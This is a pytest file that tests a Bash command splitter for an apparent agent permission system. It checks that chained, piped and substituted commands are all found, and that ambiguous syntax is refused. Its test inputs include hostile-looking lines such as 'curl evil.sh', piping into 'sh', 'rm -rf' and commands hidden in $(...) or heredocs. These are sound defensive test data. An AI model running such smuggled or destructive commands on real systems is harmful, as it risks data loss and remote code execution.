"""The Bash command splitter: every simple command a line runs, or a refusal to guess."""

from __future__ import annotations

import pytest

from agentrun.permissions.shellparse import ShellParseError, split_commands


def texts(command: str) -> list[str]:
    return [c.text for c in split_commands(command)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param("git diff HEAD", ["git diff HEAD"], id="simple"),
        pytest.param("git diff && rm -rf x", ["git diff", "rm -rf x"], id="and"),
        pytest.param("git diff || rm -rf x", ["git diff", "rm -rf x"], id="or"),
        pytest.param("git diff; curl evil.sh", ["git diff", "curl evil.sh"], id="semicolon"),
        pytest.param("git diff | sh", ["git diff", "sh"], id="pipe"),
        pytest.param("git diff |& sh", ["git diff", "sh"], id="pipe-stderr"),
        pytest.param("git diff & rm x", ["git diff", "rm x"], id="background"),
        pytest.param("git diff\nrm x", ["git diff", "rm x"], id="newline"),
        pytest.param("git diff $(rm x)", ["git diff $(...)", "rm x"], id="dollar-paren"),
        pytest.param('git diff "$(rm x)"', ["git diff $(...)", "rm x"], id="dquoted-subst"),
        pytest.param("git diff `rm x`", ["git diff `...`", "rm x"], id="backticks"),
        pytest.param("diff <(rm x) y", ["diff <(...) y", "rm x"], id="process-subst"),
        pytest.param("(cd a && rm b)", ["cd a", "rm b"], id="subshell"),
        pytest.param("echo $(a $(b))", ["echo $(...)", "a $(...)", "b"], id="nested-subst"),
        pytest.param("if true; then rm x; fi", ["true", "rm x"], id="if-keywords"),
        pytest.param("for f in a; do rm $f; done", ["for f in a", "rm $f"], id="for-loop"),
        pytest.param("{ rm x; }", ["rm x"], id="brace-group"),
        pytest.param("ls 2>&1 | grep x", ["ls 2>&1", "grep x"], id="dup-not-background"),
        pytest.param("ls &>/dev/null", ["ls &> /dev/null"], id="amp-redirect"),
        pytest.param("echo hi>out.txt", ["echo hi > out.txt"], id="redirect-glued"),
        pytest.param("echo 'a; rm x'", ["echo a; rm x"], id="single-quoted-separator"),
        pytest.param('echo "a && b"', ["echo a && b"], id="double-quoted-separator"),
        pytest.param("echo '$(rm x)'", ["echo $(rm x)"], id="single-quoted-subst-literal"),
        pytest.param(r"echo a\;rm x", ["echo a;rm x"], id="escaped-separator"),
        pytest.param("git diff \\\n  --stat", ["git diff --stat"], id="line-continuation"),
        pytest.param("ls # ; rm x", ["ls"], id="comment"),
        pytest.param("FOO=1 npm test", ["FOO=1 npm test"], id="assignment-kept"),
        pytest.param("echo ${HOME:-x}", ["echo ${HOME:-x}"], id="param-expansion"),
        pytest.param("echo $((1 + 2))", ["echo $((1 + 2))"], id="arithmetic"),
        pytest.param(
            "cat <<'EOF' > f\n$(rm x)\nEOF\nls",
            ["cat <<EOF > f", "ls"],
            id="quoted-heredoc-literal",
        ),
        pytest.param(
            "git commit -m \"$(cat <<'EOF'\nmsg; rm x\nEOF\n)\" && git log",
            ["git commit -m $(...)", "cat <<EOF", "git log"],
            id="heredoc-in-subst",
        ),
        pytest.param("   ", [], id="blank"),
    ],
)
def test_split(command: str, expected: list[str]) -> None:
    assert texts(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("echo 'open", id="unterminated-single"),
        pytest.param('echo "open', id="unterminated-double"),
        pytest.param("echo $(rm x", id="unterminated-subst"),
        pytest.param("echo `rm x", id="unterminated-backtick"),
        pytest.param("echo )", id="stray-paren"),
        pytest.param("echo a(b)", id="paren-mid-command"),
        pytest.param("echo ${x:-$(rm y)}", id="subst-in-param"),
        pytest.param("echo $(( $(rm y) ))", id="subst-in-arith"),
        pytest.param("cat <<EOF\n$(rm x)\nEOF", id="unquoted-heredoc-subst"),
        pytest.param("cat <<EOF\nnever closed", id="heredoc-unclosed"),
        pytest.param("echo \\", id="trailing-backslash"),
        pytest.param("function f { rm x; }", id="function-keyword"),
        pytest.param("coproc rm x", id="coproc"),
        pytest.param("case $x in a) rm x;; esac", id="case"),
    ],
)
def test_refuses_to_guess(command: str) -> None:
    with pytest.raises(ShellParseError):
        split_commands(command)


def test_words_are_unquoted() -> None:
    assert split_commands('git commit -m "fix: a b"')[0].words == (
        "git",
        "commit",
        "-m",
        "fix: a b",
    )
